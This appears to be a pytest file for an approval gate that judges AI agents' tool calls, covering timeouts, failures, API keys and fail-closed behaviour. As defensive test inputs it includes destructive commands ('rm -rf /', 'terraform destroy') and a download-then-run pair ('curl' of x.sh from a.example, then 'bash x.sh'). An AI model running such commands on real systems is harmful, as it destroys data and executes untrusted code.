"""The gatekeeper asks a gate here or at a URL; where there is no judgement nothing is approved."""

import asyncio
from contextlib import suppress
from socket import create_server
from threading import Event, Thread

import pytest
from gate_servers import BROKEN, KEY, Approving, answering, served
from servers import free_port

from sentinel.errors import (
    GateError,
    GateMalformedError,
    GateRefusedError,
    GateTimeoutError,
    GateUnreachableError,
    OptionError,
)
from sentinel.integrations.gatekeeper import Gatekeeper, gatekeeper
from sentinel.integrations.tool_calls import EARLIER_BYTES, Past
from sentinel.live.gate import Gate

KINDS = {
    "late": GateTimeoutError, "huge": GateMalformedError, "no JSON": GateMalformedError,
    "another thing": GateMalformedError, "an unknown decision": GateMalformedError,
    "an error": GateRefusedError, "elsewhere": GateRefusedError,
}  # fmt: skip


@pytest.fixture(params=["sync", "async"])
def judged(request):
    """Asks a gatekeeper, in both ways in turn."""

    def ask(keeper, tool="bash", **arguments):
        asked = keeper.request(tool, arguments)
        if request.param == "sync":
            return keeper.judge(asked)
        return asyncio.run(keeper.ajudge(asked))

    return ask


@pytest.fixture(scope="module")
def url():
    with served() as found:
        yield found


def test_a_gate_in_this_process_is_asked(judged):
    keeper = Gatekeeper()
    assert judged(keeper, command="rm -rf /").decision == "block"
    assert judged(keeper, command="ls").decision == "approve"


def test_a_gate_at_a_url_says_the_same_as_one_here(judged, url):
    near, far = Gatekeeper(), Gatekeeper(url + "/live/")
    for command in ("rm -rf /", "ls", "terraform destroy"):
        here, there = judged(near, command=command), judged(far, command=command)
        assert (here.decision, here.action_hash) == (there.decision, there.action_hash)


def test_a_key_opens_a_locked_gate_and_is_in_no_error(judged):
    with served(locked=True) as url:
        assert judged(Gatekeeper(url, api_key=KEY), command="ls").decision == "approve"
        found = judged(Gatekeeper(url), command="ls")
        assert (found.decision, found.backend_used) == (
            "escalate",
            "none (failed: GateRefusedError)",
        )
        wrong = Gatekeeper(url, api_key="another-key", on_failure="raise")
        with pytest.raises(GateRefusedError, match="status 401") as caught:
            judged(wrong, command="ls")
        assert caught.value.status == 401
        assert "another-key" not in f"{caught.value} {wrong.link!r}"


@pytest.mark.parametrize("kind", BROKEN)
def test_what_is_no_judgement_does_as_configured(judged, kind):
    with answering(kind) as url:
        for on_failure in ("escalate", "block"):
            found = judged(Gatekeeper(url, timeout_s=0.2, on_failure=on_failure), command="ls")
            assert found.decision == on_failure
            assert [each.id for each in found.rules_fired] == ["gate.failure"]
        with pytest.raises(KINDS[kind]):
            judged(Gatekeeper(url, timeout_s=0.2, on_failure="raise"), command="ls")


def test_headers_that_come_one_by_one_are_not_waited_for(judged):
    ended = Event()

    def answer(listener):
        connection, _ = listener.accept()
        with connection, suppress(OSError):
            connection.recv(65_536)
            connection.sendall(b"HTTP/1.1 200 OK\r\n")
            while not ended.wait(0.05):
                connection.sendall(b"x-more: 1\r\n")

    with create_server(("127.0.0.1", 0)) as listener:
        thread = Thread(target=answer, args=(listener,))
        thread.start()
        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        try:
            with pytest.raises(GateTimeoutError):
                judged(Gatekeeper(url, timeout_s=0.3, on_failure="raise"), command="ls")
        finally:
            ended.set()
            thread.join()


def test_an_unreachable_gate_does_as_configured(judged):
    url = f"http://127.0.0.1:{free_port()}"
    assert judged(Gatekeeper(url), command="ls").decision == "escalate"
    with pytest.raises(GateUnreachableError):
        judged(Gatekeeper(url, on_failure="raise"), command="ls")


def test_a_gate_that_breaks_in_this_process_approves_nothing(judged):
    class Broken:
        def judge(self, request):
            raise RuntimeError("lost")

    assert judged(Gatekeeper(Broken()), command="ls").decision == "escalate"
    with pytest.raises(GateError, match="RuntimeError: lost"):
        judged(Gatekeeper(Broken(), on_failure="raise"), command="ls")


def test_what_cannot_be_written_for_a_server_is_not_sent(judged, url):
    found = judged(Gatekeeper(url), command="ls \ud800")
    assert (found.decision, found.backend_used) == (
        "escalate", "none (failed: GateMalformedError)",
    )  # fmt: skip


def test_a_request_longer_than_a_server_reads_is_not_approved(judged, url):
    found = judged(Gatekeeper(url), "write_file", path="a.txt", content="x" * 100_000)
    assert found.decision == "escalate"


def test_shadow_only_notes_and_failures_are_noted_as_well(judged):
    assert judged(Gatekeeper(shadow=True), command="rm -rf /").shadow
    found = judged(Gatekeeper(f"http://127.0.0.1:{free_port()}", shadow=True), command="ls")
    assert (found.decision, found.shadow) == ("escalate", True)


def test_what_every_request_says_is_said():
    keeper = Gatekeeper(environment="prod", protected=["users"], goal="Tidy up")
    asked = keeper.request("psql", {"query": "SELECT 1"}, goal="Something else")
    assert (asked.environment, asked.protected, asked.goal) == ("prod", ["users"], "Tidy up")


def test_earlier_calls_count(judged):
    keeper = Gatekeeper()
    before = [Past("bash", {"command": "curl -o x.sh https://a.example/x.sh"}, "saved")]
    asked = keeper.request("bash", {"command": "bash x.sh"}, earlier=before)
    assert "network earlier in the run" in str(keeper.judge(asked).reasoning_trace)


def test_long_runs_have_room_in_a_request(url):
    keeper = Gatekeeper(url)
    before = [Past("read", {"path": str(n)}, "\u00e9" * 9_000) for n in range(500)]
    asked = keeper.request("bash", {"command": "ls"}, earlier=before)
    assert 5 < len(asked.trajectory) <= EARLIER_BYTES // 3_000
    assert '"499"' in asked.trajectory[-1].action_description
    assert keeper.judge(asked).decision == "approve"


def test_a_long_argument_is_read():
    keeper = Gatekeeper()
    asked = keeper.request("write_file", {"path": "notes.md", "content": "word " * 1_000})
    assert keeper.judge(asked).decision in ("approve", "flag")


def test_the_same_call_that_was_refused_is_known_again():
    keeper = Gatekeeper()
    call = ("frobnicate", {"times": 3})
    asked = keeper.request(*call, earlier=[Past(*call, refused=True)])
    assert "The same call was denied to the run before" in str(keeper.judge(asked).reasoning_trace)


def test_a_call_without_arguments_is_read():
    assert Gatekeeper().request("get_weather", {}).arguments is None
    assert Gatekeeper().judge(Gatekeeper().request("get_weather", {})).decision == "approve"


@pytest.mark.parametrize(
    ("gate", "fields", "what"),
    [
        ("ftp://a", {}, "must be like"),
        ("http://u:p@a", {}, "api_key"),
        ("http://a", {"timeout_s": 0}, "timeout_s"),
        ("http://a", {"api_key": "a\nb"}, "no header"),
        (None, {"on_failure": "approve"}, "on_failure='approve'"),
        (None, {"colour": "red"}, "colour"),
        (None, {"environment": "mars"}, "environment='mars'"),
    ],
)
def test_what_does_not_fit_is_an_error(gate, fields, what):
    with pytest.raises(OptionError, match=what):
        Gatekeeper(gate, **fields)


def test_adapters_take_a_gate_a_url_or_a_gatekeeper():
    keeper = Gatekeeper()
    assert gatekeeper(keeper) is keeper
    assert gatekeeper("http://a.example").link.url == "http://a.example"
    gate = Approving()
    assert gatekeeper(gate).gate is gate
    assert isinstance(gatekeeper(None).gate, Gate)
